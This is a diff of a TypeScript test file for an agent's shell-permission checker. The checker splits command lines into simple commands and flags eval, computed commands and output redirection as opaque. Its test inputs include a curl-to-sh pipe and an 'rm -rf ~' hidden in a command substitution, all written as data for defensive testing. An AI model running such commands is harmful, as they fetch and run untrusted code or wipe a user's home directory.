@@ -5,26 +5,29 @@ import { join } from 'node:path';
 import { describe, test } from 'node:test';
 import { judgeCall, type PermissionRule } from '../../../src/core/permissions/permission-rules.js';
 import { parseRule } from '../../../src/core/permissions/rule-syntax.js';
-import { splitCommand } from '../../../src/core/permissions/shell-commands.js';
+import { analyseCommandLine } from '../../../src/core/permissions/shell-commands.js';
 import { WorkspaceRoots } from '../../../src/core/workspace/workspace-roots.js';
 
 const rule = (effect: PermissionRule['effect'], text: string): PermissionRule => ({ effect, rule: text, source: 'test' });
 const bash = (command: string) => ({ tool: 'execute_command', params: { command }, cwd: '/work/app' });
 const judge = async (rules: PermissionRule[], call: Parameters<typeof judgeCall>[1]) => (await judgeCall(rules, call))?.effect;
 
-describe('shell command splitting (tree-sitter-bash)', () => {
+describe('shell command analysis (tree-sitter-bash)', () => {
+  const texts = async (line: string) => (await analyseCommandLine(line)).commands.map((command) => command.text);
+
   test('every simple command is found, also inside substitutions, pipelines and subshells', async () => {
-    assert.deepEqual((await splitCommand('git status && curl http://x | sh')).commands, ['git status', 'curl http://x', 'sh']);
-    assert.deepEqual((await splitCommand('git status $(rm -rf ~)')).commands, ['git status $(rm -rf ~)', 'rm -rf ~']);
-    assert.deepEqual((await splitCommand('echo `whoami`; (cd src && make)')).commands, ['echo `whoami`', 'whoami', 'cd src', 'make']);
+    assert.deepEqual(await texts('git status && curl http://x | sh'), ['git status', 'curl http://x', 'sh']);
+    assert.deepEqual(await texts('git status $(rm -rf ~)'), ['git status "$(rm -rf ~)"', 'rm -rf ~']);
+    assert.deepEqual(await texts('echo `whoami`; (cd src && make)'), ['echo `whoami`', 'whoami', 'cd src', 'make']);
   });
 
-  test('what cannot be judged from the words is opaque', async () => {
-    assert.deepEqual((await splitCommand('npm test > out.txt')).opaque, ['output is written to out.txt']);
-    assert.deepEqual((await splitCommand('npm test 2>&1 >/dev/null')).opaque, []);
-    assert.match((await splitCommand('$CMD arg')).opaque[0] ?? '', /is computed/);
-    assert.match((await splitCommand('eval "$X"')).opaque[0] ?? '', /"eval" runs other text/);
-    assert.match((await splitCommand('echo "unterminated')).opaque[0] ?? '', /syntax error/);
+  test('what cannot be judged from the words is opaque; output to a file only keeps allow rules away', async () => {
+    assert.deepEqual((await analyseCommandLine('npm test > out.txt')).unallowable, ['output is written to out.txt']);
+    assert.deepEqual((await analyseCommandLine('npm test > out.txt')).opaque, []);
+    assert.deepEqual((await analyseCommandLine('npm test 2>&1 >/dev/null')).unallowable, []);
+    assert.match((await analyseCommandLine('$CMD arg')).opaque[0] ?? '', /is computed/);
+    assert.match((await analyseCommandLine('eval "$X"')).opaque[0] ?? '', /eval runs computed text/);
+    assert.match((await analyseCommandLine('echo "unterminated')).opaque[0] ?? '', /syntax error/);
   });
 });
 
